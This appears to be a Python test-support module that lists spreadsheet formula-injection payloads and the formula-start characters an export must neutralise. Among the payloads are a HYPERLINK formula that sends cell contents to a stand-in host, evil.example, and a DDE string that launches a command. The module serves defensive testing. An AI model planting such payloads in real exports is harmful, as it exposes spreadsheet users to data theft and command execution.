"""Text a spreadsheet would run as a formula, planted by the export tests (not a test module)."""

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"open")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
]
IDS = ["hyperlink", "dde", "plus", "minus", "at", "tab", "cr"]
# The starts Excel, LibreOffice and Google Sheets may evaluate: no exported text cell may begin with one.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def as_stored_in_xlsx(text: str) -> str:
    """`text` as an .xlsx gives it back: openpyxl writes a carriage return raw and XML reads it as a line feed."""
    return text.replace("\r", "\n")
